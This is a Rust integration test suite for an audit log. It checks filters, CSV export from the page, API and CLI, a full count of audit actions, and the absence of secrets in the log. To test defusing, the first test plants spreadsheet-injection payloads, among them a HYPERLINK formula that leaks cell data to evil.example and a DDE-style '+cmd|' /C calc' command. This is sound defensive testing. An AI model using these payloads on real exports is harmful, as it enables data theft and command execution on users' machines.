//! The audit log read back: filters, and one CSV export — from the page, the API and the CLI —
//! that a standard CSV reader parses into the documented columns, hostile values defused and
//! otherwise intact.

use burnrate_store::{Actor, ActorType, AuditAction, NewAuditEntry};
use burnrate_testkit::TestApp;
use reqwest::Method;
use serde_json::json;

const COLUMNS: [&str; 13] = [
    "seq",
    "at",
    "actor_type",
    "actor_id",
    "actor_label",
    "action",
    "target_type",
    "target_id",
    "details",
    "ip",
    "user_agent",
    "prev_hash",
    "hash",
];

/// What Python's `csv` module reads from `text`.
async fn python_csv(text: &str) -> Vec<Vec<String>> {
    use tokio::io::AsyncWriteExt;
    let mut child = tokio::process::Command::new("python3")
        .args(["-c", "import csv, json, sys; print(json.dumps(list(csv.reader(sys.stdin))))"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("python3");
    child.stdin.take().unwrap().write_all(text.as_bytes()).await.unwrap();
    let out = child.wait_with_output().await.unwrap();
    assert!(out.status.success(), "python's csv reader failed: {}", String::from_utf8_lossy(&out.stderr));
    serde_json::from_slice(&out.stdout).unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_csv_export_parses_into_the_documented_columns_with_hostile_values_defused() {
    let app = TestApp::spawn().await;
    let (scope, _) = app.create_org("Acme", "owner@acme.test").await;
    let c = app.login("owner@acme.test").await;
    let key = crate::create_key(&c, "auditor", "admin").await;

    // A real action from a client whose User-Agent is a spreadsheet formula.
    let hostile_agent = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")";
    let r = reqwest::Client::new()
        .post(format!("{}/api/v1/budgets", app.url))
        .bearer_auth(&key)
        .header("user-agent", hostile_agent)
        .json(&json!({ "name": "Research", "amount": "100", "currency": "USD", "period": "month" }))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 201);
    // Entries whose other columns hold what an attacker might get into them.
    let mut tx = app.store.tenant(scope).await.unwrap();
    tx.audit(NewAuditEntry {
        actor: Actor { kind: ActorType::System, id: Some("-2+3".into()), label: "+cmd|' /C calc'!A0".into() },
        action: AuditAction::NoticePublished,
        target_type: Some("note"),
        target_id: Some("@SUM(A1:A9)".into()),
        details: json!({ "text": "say \"hi\",\nthen leave — déjà vu ✓" }),
        ip: Some("\tTAB".into()),
        user_agent: Some("\rCR".into()),
    })
    .await
    .unwrap();
    tx.commit().await.unwrap();

    let from_page = c.get("/audit.csv").await;
    assert_eq!(from_page.status, 200);
    assert_eq!(from_page.header("content-type").as_deref(), Some("text/csv; charset=utf-8"));
    let from_api = c.api(Method::GET, "/api/v1/audit?format=csv", &key, None).await;
    let cli = crate::burnrate(&app, &["audit", "export", "--org", "Acme"], &[], None).await;
    assert!(cli.status.success(), "{}", String::from_utf8_lossy(&cli.stderr));
    let from_cli = String::from_utf8(cli.stdout).unwrap();

    let rows = python_csv(&from_page.text).await;
    assert_eq!(rows[0], COLUMNS, "the documented header");
    assert!(rows[1..].iter().all(|r| r.len() == COLUMNS.len()), "every record has every column");
    let seqs: Vec<i64> = rows[1..].iter().map(|r| r[0].parse().unwrap()).collect();
    assert!(seqs.windows(2).all(|w| w[0] < w[1]) && seqs[0] == 1, "oldest first, all of it: {seqs:?}");
    let created = rows.iter().find(|r| r[5] == "budget_created").expect("the budget's entry");
    assert_eq!(created[10], format!("'{hostile_agent}"), "a formula is defused, the rest kept");
    assert!(created[1].ends_with('Z') && created[1].contains('T'), "UTC RFC 3339: {}", created[1]);
    let planted = rows.iter().find(|r| r[5] == "notice_published").unwrap();
    assert_eq!(planted[3], "'-2+3", "a leading minus that is no number");
    assert_eq!(planted[4], "'+cmd|' /C calc'!A0");
    assert_eq!(planted[7], "'@SUM(A1:A9)");
    assert_eq!(planted[9], "'\tTAB");
    assert_eq!(planted[10], "'\rCR");
    let details: serde_json::Value = serde_json::from_str(&planted[8]).unwrap();
    assert_eq!(details["text"], "say \"hi\",\nthen leave — déjà vu ✓", "quotes, commas, newlines and non-ASCII intact");

    // The three exports are the same file, each one entry longer: an export is audited too.
    // (The page and the API record the export before it is read; the CLI after writing it.)
    assert!(from_api.text.starts_with(&from_page.text));
    assert!(from_api.text[from_page.text.len()..].contains(",audit_exported,"));
    assert!(from_page.text.contains(",audit_exported,"), "the export records itself");
    assert_eq!(from_cli, from_api.text);
    let mut tx = app.store.tenant(scope).await.unwrap();
    let exports: Vec<_> =
        tx.audit_entries(100).await.unwrap().into_iter().filter(|e| e.action == "audit_exported").collect();
    tx.commit().await.unwrap();
    assert_eq!(exports.len(), 3);
    assert_eq!((exports[0].actor_type.as_str(), exports[0].actor_label.as_str()), ("system", "burnrate audit export"));
    // The chain still verifies: reading changed nothing.
    assert!(crate::burnrate(&app, &["audit", "verify"], &[], None).await.status.success());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_audit_log_filters_by_action_actor_target_and_time() {
    let app = TestApp::spawn().await;
    app.create_org("Acme", "owner@acme.test").await;
    let c = app.login("owner@acme.test").await;
    let key = crate::create_key(&c, "auditor", "admin").await;
    for name in ["One", "Two"] {
        let body = json!({ "name": name, "amount": "100", "currency": "USD", "period": "month" });
        assert_eq!(c.api(Method::POST, "/api/v1/budgets", &key, Some(body)).await.status, 201);
    }

    let all = c.api(Method::GET, "/api/v1/audit", &key, None).await.json();
    let created = c.api(Method::GET, "/api/v1/audit?action=budget_created", &key, None).await.json();
    let created = created["entries"].as_array().unwrap();
    assert_eq!(created.len(), 2, "{created:?}");
    assert!(created[0]["seq"].as_i64() > created[1]["seq"].as_i64(), "newest first");
    assert_eq!(created[0]["details"]["name"], "Two");
    assert!(all["entries"].as_array().unwrap().len() > 2);
    let target = created[1]["target_id"].as_str().unwrap();
    let one = c.api(Method::GET, &format!("/api/v1/audit?target={target}"), &key, None).await.json();
    assert_eq!(one["entries"].as_array().unwrap().len(), 1);
    let actor = created[0]["actor_label"].as_str().unwrap().to_owned();
    let by_actor = c.api(Method::GET, &format!("/api/v1/audit?actor={}", urlencode(&actor)), &key, None).await.json();
    assert!(by_actor["entries"].as_array().unwrap().iter().all(|e| e["actor_label"] == actor.as_str()));
    let tomorrow = (chrono::Utc::now().date_naive() + chrono::Duration::days(1)).to_string();
    let future = c.api(Method::GET, &format!("/api/v1/audit?from={tomorrow}"), &key, None).await.json();
    assert!(future["entries"].as_array().unwrap().is_empty());
    let bad = c.api(Method::GET, "/api/v1/audit?from=last+tuesday", &key, None).await;
    assert_eq!(bad.status, 422, "{}", bad.text);
    assert!(bad.text.contains("from: a date such as 2026-11-30"), "{}", bad.text);

    // The page filters the same way and exports what it shows.
    let page = c.get("/audit?action=budget_created").await.text;
    assert_eq!(page.matches("<code>budget_created</code>").count(), 2, "{page}");
    assert!(
        !page.contains("<code>login</code>") && page.contains("/audit.csv?actor=&#38;action=budget_created"),
        "{page}"
    );
    let csv = c.get("/audit.csv?action=budget_created").await.text;
    assert_eq!(csv.lines().count(), 3, "header and two entries: {csv}");
    assert!(c.get(&format!("/audit?from={tomorrow}")).await.text.contains("No entry matches these filters."));
    // Members read no audit log.
    let read_key = crate::create_key(&c, "reader", "read").await;
    assert_eq!(c.api(Method::GET, "/api/v1/audit", &read_key, None).await.status, 403);
}

fn urlencode(s: &str) -> String {
    url::form_urlencoded::byte_serialize(s.as_bytes()).collect()
}

/// Every S16 action of an organization, done once each through the UI or the API; exactly one
/// entry for each, well formed, and no secret anywhere in the log.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_audit_action_is_caused_counted_well_formed_and_free_of_secrets() {
    let app = TestApp::spawn().await;
    let (scope, _) = app.create_org("Acme", "owner@acme.test").await;
    let bystander = app.client();
    let failed =
        bystander.post_form("/login", &[("email", "owner@acme.test"), ("password", "not the password at all")]).await;
    assert_eq!(failed.status, 401);
    let c = app.login("owner@acme.test").await;
    let key = crate::create_key(&c, "automation", "admin").await;
    let spare = crate::create_key(&c, "spare", "read").await;
    let keys = c.api(Method::GET, "/api/v1/api-keys", &key, None).await.json();
    let spare_id = keys["api_keys"].as_array().unwrap().iter().find(|k| k["name"] == "spare").unwrap()["id"]
        .as_str()
        .unwrap()
        .to_owned();
    assert_eq!(c.api(Method::DELETE, &format!("/api/v1/api-keys/{spare_id}"), &key, None).await.status, 204);
    let ingest = c.api(Method::POST, "/api/v1/ingest-keys", &key, Some(json!({ "name": "checkout" }))).await.json();
    let ingest_id = ingest["id"].as_str().unwrap();
    assert_eq!(c.api(Method::DELETE, &format!("/api/v1/ingest-keys/{ingest_id}"), &key, None).await.status, 204);

    let sim = burnrate_sim::SimProvider::openai("sk-admin-AUDITKEY0000000000000000000").await;
    let body = json!({ "kind": "openai", "name": "prod", "secret": "sk-admin-AUDITKEY0000000000000000000", "base_url": sim.base_url() });
    let source =
        c.api(Method::POST, "/api/v1/sources", &key, Some(body)).await.json()["id"].as_str().unwrap().to_owned();
    let r = c
        .api(Method::PATCH, &format!("/api/v1/sources/{source}"), &key, Some(json!({ "interval_minutes": 120 })))
        .await;
    assert_eq!(r.status, 204, "{}", r.text);
    let r =
        c.post_form(&format!("/sources/{source}/rotate"), &[("secret", "sk-admin-ROTATEDKEY00000000000000000")]).await;
    assert_eq!(r.status, 303);

    let budget = json!({ "name": "Research", "amount": "100", "currency": "USD", "period": "month" });
    let budget =
        c.api(Method::POST, "/api/v1/budgets", &key, Some(budget)).await.json()["id"].as_str().unwrap().to_owned();
    let r =
        c.api(Method::PATCH, &format!("/api/v1/budgets/{budget}"), &key, Some(json!({ "thresholds": [40, 80] }))).await;
    assert_eq!(r.status, 200, "{}", r.text);
    assert_eq!(c.api(Method::DELETE, &format!("/api/v1/budgets/{budget}"), &key, None).await.status, 204);

    let (url, _received) = crate::notify::receiver().await;
    let hook = c.api(Method::POST, "/api/v1/webhooks", &key, Some(json!({ "url": url }))).await.json();
    let (hook_id, hook_secret) = (hook["id"].as_str().unwrap().to_owned(), hook["secret"].as_str().unwrap().to_owned());
    assert_eq!(c.api(Method::DELETE, &format!("/api/v1/webhooks/{hook_id}"), &key, None).await.status, 204);

    let sql = c.api(Method::POST, "/api/v1/sql-credentials", &key, Some(json!({ "name": "bi" }))).await.json();
    let (sql_user, sql_password) =
        (sql["user"].as_str().unwrap().to_owned(), sql["password"].as_str().unwrap().to_owned());
    assert_eq!(c.api(Method::DELETE, &format!("/api/v1/sql-credentials/{sql_user}"), &key, None).await.status, 204);

    let member = app.add_member(scope, "member@acme.test", burnrate_core::Role::Member).await;
    let r = c.api(Method::PATCH, &format!("/api/v1/members/{member}"), &key, Some(json!({ "role": "viewer" }))).await;
    assert_eq!(r.status, 200, "{}", r.text);
    assert_eq!(c.api(Method::DELETE, &format!("/api/v1/members/{member}"), &key, None).await.status, 204);
    let r =
        c.api(Method::POST, "/api/v1/members", &key, Some(json!({ "email": "new@acme.test", "role": "viewer" }))).await;
    assert_eq!(r.status, 201, "{}", r.text);

    assert_eq!(
        c.api(Method::PATCH, "/api/v1/org", &key, Some(json!({ "reporting_time_zone": "Europe/Berlin" }))).await.status,
        200
    );
    bystander.post_form("/password-reset", &[("email", "owner@acme.test")]).await;
    let mail = app.smtp.wait_for("owner@acme.test", "Reset your burnrate password").await;
    let link = mail.link("/password-reset/").unwrap();
    let new_password = "granite lantern meadow sixteen";
    assert_eq!(bystander.post_form(&link, &[("password", new_password)]).await.status, 200);
    let again = app.client();
    let r = again.post_form("/login", &[("email", "owner@acme.test"), ("password", new_password)]).await;
    assert_eq!(r.status, 303);
    // Support access: asked, consented, approved, used once, ended.
    let (alice, bob) =
        (app.add_operator("alice@ops.test", "Alice").await, app.add_operator("bob@ops.test", "Bob").await);
    let (ops_a, ops_b) = (app.operator_login(&alice).await, app.operator_login(&bob).await);
    let asked = ops_a.post_form("/operator/grants", &[("org", "Acme"), ("issue", "Ticket 1: sync fails")]).await;
    assert_eq!(asked.status, 200, "{}", asked.text);
    let grants = c.api(Method::GET, "/api/v1/support-grants", &key, None).await.json();
    let grant = grants["support_grants"][0]["id"].as_str().unwrap().to_owned();
    let consent = c.api(Method::POST, &format!("/api/v1/support-grants/{grant}/consent"), &key, None).await;
    assert_eq!(consent.status, 200, "{}", consent.text);
    assert_eq!(ops_b.post_form(&format!("/operator/grants/{grant}/approve"), &[]).await.status, 200);
    assert_eq!(ops_a.get(&format!("/operator/orgs/{}", scope.org_id())).await.status, 200);
    assert_eq!(c.api(Method::POST, &format!("/api/v1/support-grants/{grant}/revoke"), &key, None).await.status, 200);
    let export = c.api(Method::GET, "/api/v1/audit?format=csv", &key, None).await;
    assert_eq!(export.status, 200);
    let costs = c.api(Method::GET, "/api/v1/exports?dataset=focus&format=csv&from=2026-01-01", &key, None).await;
    assert_eq!(costs.status, 200, "{}", costs.text);
    for step in ["pause", "resume", "sync"] {
        let r = c.api(Method::POST, &format!("/api/v1/sources/{source}/{step}"), &key, None).await;
        assert!(r.status < 300, "{step}: {}", r.text);
    }
    assert_eq!(c.api(Method::DELETE, &format!("/api/v1/sources/{source}"), &key, None).await.status, 204);

    // Invitations: one revoked, the earlier one accepted (the new member joins).
    let r = c
        .api(Method::POST, "/api/v1/members", &key, Some(json!({ "email": "gone@acme.test", "role": "viewer" })))
        .await;
    let invitation = r.json()["invitation_id"].as_str().unwrap().to_owned();
    assert_eq!(c.api(Method::DELETE, &format!("/api/v1/invitations/{invitation}"), &key, None).await.status, 204);
    let invited = app.smtp.wait_for("new@acme.test", "Invitation to Acme").await.link("/invitations/").unwrap();
    let r = app.client().post_form(&invited, &[("password", burnrate_testkit::GOOD_PASSWORD)]).await;
    assert_eq!(r.status, 200, "{}", r.text);
    // Downloads: a query's rows and an explorer view.
    assert_eq!(again.post_form("/sql/console.csv", &[("sql", "SELECT 1 AS one")]).await.status, 200);
    let view = again.get("/explore?group=model&from=2026-01-01&to=2026-01-08&granularity=day&format=csv").await;
    assert_eq!(view.status, 200, "{}", view.text);
    // Support: a second grant, declined.
    let asked = ops_a.post_form("/operator/grants", &[("org", "Acme"), ("issue", "Ticket 2")]).await;
    assert_eq!(asked.status, 200, "{}", asked.text);
    let grants = c.api(Method::GET, "/api/v1/support-grants", &key, None).await.json();
    let second = grants["support_grants"].as_array().unwrap().iter().find(|g| g["id"] != grant.as_str()).unwrap()["id"]
        .as_str()
        .unwrap()
        .to_owned();
    assert_eq!(c.api(Method::POST, &format!("/api/v1/support-grants/{second}/decline"), &key, None).await.status, 200);
    let notice = [("title", "New sub-processor"), ("body", "We add one."), ("effective", "")];
    assert_eq!(ops_a.post_form("/operator/notices", &notice).await.status, 200);

    // The approval queue, with a second admin: approved, rejected, failed, withdrawn, and a
    // dead delivery of the request's event sent again.
    let (hook_url, _hook_received) = crate::notify::receiver().await;
    let hook = c.api(Method::POST, "/api/v1/webhooks", &key, Some(json!({ "url": hook_url }))).await.json();
    let hook = hook["id"].as_str().unwrap().to_owned();
    // A destination that keeps failing: paused by the deliverers, resumed by an admin (below).
    let (failing_url, _failing_received, _) = crate::notify::receiver_answering(503).await;
    let failing = c.api(Method::POST, "/api/v1/webhooks", &key, Some(json!({ "url": failing_url }))).await.json();
    let failing = failing["id"].as_str().unwrap().to_owned();
    // A price of the organization's own, set by its sole admin and removed.
    let own = json!({ "provider": "anthropic", "model": "claude-sonnet-4-5", "effective_from": "2026-01-01", "discount_percent": "10" });
    let own = c.api(Method::POST, "/api/v1/prices/overrides", &key, Some(own)).await;
    assert_eq!(own.status, 201, "{}", own.text);
    let own = own.json()["id"].as_str().unwrap().to_owned();
    assert_eq!(c.api(Method::DELETE, &format!("/api/v1/prices/overrides/{own}"), &key, None).await.status, 204);
    let reprice = json!({ "from": "2026-01-01", "to": "2026-01-31", "dry_run": false });
    assert_eq!(c.api(Method::POST, "/api/v1/prices/reprice", &key, Some(reprice)).await.status, 200);
    let b = app.add_member(scope, "b@acme.test", burnrate_core::Role::Admin).await;
    let bc = app.login("b@acme.test").await;
    let b_key = crate::create_key(&bc, "b", "admin").await;
    let ops = json!({ "name": "Ops", "amount": "100", "currency": "USD", "period": "month" });
    let ops = c.api(Method::POST, "/api/v1/budgets", &key, Some(ops)).await.json()["id"].as_str().unwrap().to_owned();
    let raise = |amount: &'static str| {
        let (c, key, ops) = (&c, &key, &ops);
        async move {
            let r =
                c.api(Method::PATCH, &format!("/api/v1/budgets/{ops}"), key, Some(json!({ "amount": amount }))).await;
            assert_eq!(r.status, 202, "{}", r.text);
            r.json()["approval_id"].as_str().unwrap().to_owned()
        }
    };
    let decide = |request: String, verdict: &'static str| {
        let (bc, b_key) = (&bc, &b_key);
        async move { bc.api(Method::POST, &format!("/api/v1/approvals/{request}/{verdict}"), b_key, None).await }
    };
    assert_eq!(decide(raise("200").await, "approve").await.status, 200);
    assert_eq!(decide(raise("300").await, "reject").await.status, 200);
    let overtaken = raise("400").await;
    assert_eq!(c.api(Method::DELETE, &format!("/api/v1/budgets/{ops}"), &key, None).await.status, 204);
    assert_eq!(decide(overtaken, "approve").await.json()["state"], "failed");
    // Every event so far sent first: the deliverers run beside the test, and one still sending would
    // record its answer over the dead letter made below.
    let mut deliveries = serde_json::Value::Null;
    for _ in 0..200 {
        deliveries = c.api(Method::GET, &format!("/api/v1/webhooks/{hook}/deliveries"), &key, None).await.json();
        if deliveries["deliveries"].as_array().unwrap().iter().all(|d| d["state"] != "pending") {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    let delivery = deliveries["deliveries"][0]["id"].as_str().unwrap().to_owned();
    // The receiver's last attempt failed for good (what four failures in a row would do).
    let mut tx = app.store.tenant(scope).await.unwrap();
    let failed = burnrate_store::DeliveryAttempt {
        at: chrono::Utc::now(),
        status: Some(503),
        latency_ms: 1,
        error: Some("the receiver answered 503".into()),
    };
    let dead = burnrate_store::DeliveryState::Dead;
    tx.record_delivery_attempt(delivery.parse().unwrap(), &failed, dead).await.unwrap();
    tx.commit().await.unwrap();
    let r = c.api(Method::POST, &format!("/api/v1/webhooks/{hook}/deliveries/{delivery}/redeliver"), &key, None).await;
    assert!(r.status < 300, "{}", r.text);
    // The failing destination paused after ten failures in a row, and nothing of it left to try:
    // resumed.
    for _ in 0..300 {
        let listed = c.api(Method::GET, "/api/v1/webhooks", &key, None).await.json();
        let paused = listed["webhooks"]
            .as_array()
            .unwrap()
            .iter()
            .any(|w| w["id"] == failing.as_str() && w["paused_at"].is_string());
        let pending = c
            .api(Method::GET, &format!("/api/v1/webhooks/{failing}/deliveries?state=pending"), &key, None)
            .await
            .json();
        if paused && pending["deliveries"].as_array().unwrap().is_empty() {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    let r = c.api(Method::POST, &format!("/api/v1/webhooks/{failing}/resume"), &key, None).await;
    assert_eq!(r.status, 204, "{}", r.text);
    // The operator grants a private network, and takes it back.
    let ceiling = [("BURNRATE_EGRESS_ALLOW", "10.0.0.0/8")];
    for args in
        [["egress", "grant", "--org", "Acme", "10.1.0.0/16"], ["egress", "revoke", "--org", "Acme", "10.1.0.0/16"]]
    {
        let out = crate::burnrate(&app, &args, &ceiling, None).await;
        assert!(out.status.success(), "{args:?}: {}", String::from_utf8_lossy(&out.stderr));
    }
    // The operator imports a price catalogue (the shipped one under another version).
    let shipped = include_str!("../../../prices/catalogue/genai-prices.json");
    let catalogue = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(catalogue.path(), shipped.replacen("\"version\":\"0.2.3\"", "\"version\":\"0.2.3-audit\"", 1))
        .unwrap();
    let out =
        crate::burnrate(&app, &["prices", "import", catalogue.path().to_str().unwrap(), "--apply"], &[], None).await;
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let b_budget = json!({ "name": "B's", "amount": "10", "currency": "USD", "period": "month" });
    let b_budget =
        bc.api(Method::POST, "/api/v1/budgets", &b_key, Some(b_budget)).await.json()["id"].as_str().unwrap().to_owned();
    let r =
        bc.api(Method::PATCH, &format!("/api/v1/budgets/{b_budget}"), &b_key, Some(json!({ "amount": "20" }))).await;
    assert_eq!(r.status, 202, "{}", r.text);
    let r = c.api(Method::PATCH, &format!("/api/v1/members/{b}"), &key, Some(json!({ "role": "member" }))).await;
    assert_eq!(r.status, 200, "{}", r.text);
    // Two-step login, turned on and off again.
    let setup = again.post_form("/account/second-factor/setup", &[]).await;
    let totp = setup.text.split(r#"id="totp-secret">"#).nth(1).unwrap().split('<').next().unwrap();
    let phone = burnrate_testkit::Authenticator::from_base32(totp);
    let on = again.post_form("/account/second-factor/confirm", &[("code", &phone.code().await)]).await;
    assert!(on.text.contains("Two-step login is on."), "{}", on.text);
    let off = again.post_form("/account/second-factor/disable", &[("code", &phone.code().await)]).await;
    assert!(off.text.contains("Two-step login is off."), "{}", off.text);
    assert_eq!(again.post_form("/logout", &[]).await.status, 303);

    // A new organization, signed up and verified.
    let newcomer = app.client();
    let signup =
        [("org_name", "Newco"), ("email", "founder@newco.test"), ("password", burnrate_testkit::GOOD_PASSWORD)];
    assert!(newcomer.post_form("/signup", &signup).await.status < 400);
    let verify = app.smtp.wait_for("founder@newco.test", "").await.link("/verify-email/").unwrap();
    assert!(newcomer.post_form(&verify, &[]).await.status < 400);

    let mut tx = app.store.tenant(scope).await.unwrap();
    let mut entries = tx.audit_entries(1000).await.unwrap();
    tx.commit().await.unwrap();
    let mut tx = app.store.instance().await.unwrap();
    let newco = tx.find_org("Newco").await.unwrap().expect("signed up");
    let mut tx = tx.into_tenant(burnrate_store::OrgScope::trusted(newco.id)).await.unwrap();
    entries.extend(tx.audit_entries(1000).await.unwrap());
    tx.commit().await.unwrap();
    let count = |action: AuditAction| entries.iter().filter(|e| e.action == action.as_str()).count();
    // Every action the log knows, with how often the steps above cause it (in Acme and Newco).
    // A new action fails here until it has its row, and its row until a step causes it.
    use AuditAction::*;
    let expected = [
        (Login, 3),
        (LoginFailed, 1),
        (Logout, 1),
        (EmailVerified, 1),
        (PasswordResetRequested, 1),
        (PasswordResetCompleted, 1),
        (SecondFactorEnabled, 1),
        (SecondFactorDisabled, 1),
        (OrganizationCreated, 1),
        (OrgSettingsChanged, 1),
        (MemberJoined, 1),
        (MemberRoleChanged, 2),
        (MemberRemoved, 1),
        (InvitationCreated, 2),
        (InvitationRevoked, 1),
        (InvitationAccepted, 1),
        (ApiKeyCreated, 3),
        (ApiKeyRevoked, 1),
        (IngestKeyCreated, 1),
        (IngestKeyRevoked, 1),
        (SqlCredentialCreated, 1),
        (SqlCredentialRevoked, 1),
        (SourceCreated, 1),
        (SourceSettingsChanged, 1),
        (SourceCredentialRotated, 1),
        (SourcePaused, 1),
        (SourceResumed, 1),
        (SourceSyncRequested, 1),
        (SourceDeletedDataKept, 1),
        (SourceDeletedDataRemoved, 0),
        (BudgetCreated, 3),
        (BudgetUpdated, 2),
        (BudgetDeleted, 2),
        (WebhookCreated, 3),
        (WebhookDeleted, 1),
        (WebhookRedelivered, 1),
        (WebhookPaused, 1),
        (WebhookResumed, 1),
        (ApprovalRequested, 4),
        (ApprovalApproved, 1),
        (ApprovalRejected, 1),
        (ApprovalFailed, 1),
        (ApprovalWithdrawn, 1),
        (AuditExported, 1),
        (CostsExported, 1),
        (QueryExported, 1),
        (ExplorerExported, 1),
        (SupportRequested, 2),
        (SupportConsented, 1),
        (SupportDeclined, 1),
        (SupportApproved, 1),
        (SupportAccess, 1),
        (SupportRevoked, 1),
        (NoticePublished, 1),
        (EgressGranted, 1),
        (EgressRevoked, 1),
        (PriceCatalogueImported, 1),
        (PriceOverrideCreated, 1),
        (PriceOverrideRemoved, 1),
        (UsageRepriced, 1),
    ];
    for action in AuditAction::ALL {
        let Some((_, times)) = expected.iter().find(|(a, _)| a == action) else {
            panic!("{action} has no row in this table: add one, and a step above that causes it");
        };
        assert_eq!(count(*action), *times, "{action}: {:?}", entries.iter().map(|e| &e.action).collect::<Vec<_>>());
    }

    let secrets = [
        key.as_str(),
        spare.as_str(),
        b_key.as_str(),
        totp,
        "sk-admin-AUDITKEY0000000000000000000",
        "sk-admin-ROTATEDKEY00000000000000000",
        &hook_secret[6..],
        sql_password.as_str(),
        burnrate_testkit::GOOD_PASSWORD,
        new_password,
        link.rsplit('/').next().unwrap(),
    ];
    let allowed = ["user", "api_key", "operator", "system", "anonymous"];
    for e in &entries {
        assert!(allowed.contains(&e.actor_type.as_str()) && !e.action.is_empty(), "{e:?}");
        assert!(serde_json::from_str::<serde_json::Value>(&e.details).unwrap().is_object(), "{e:?}");
        let text = format!("{} {} {:?} {} {:?}", e.actor_label, e.details, e.target_id, e.action, e.user_agent);
        for s in secrets {
            assert!(!text.contains(s), "a secret in the audit log: {e:?}");
        }
        assert!(!e.details.contains("owner@acme.test"), "no email in details: {e:?}");
        assert!(!text.contains("ops.test"), "no operator email: {e:?}");
    }
    assert!(crate::burnrate(&app, &["audit", "verify"], &[], None).await.status.success());
}
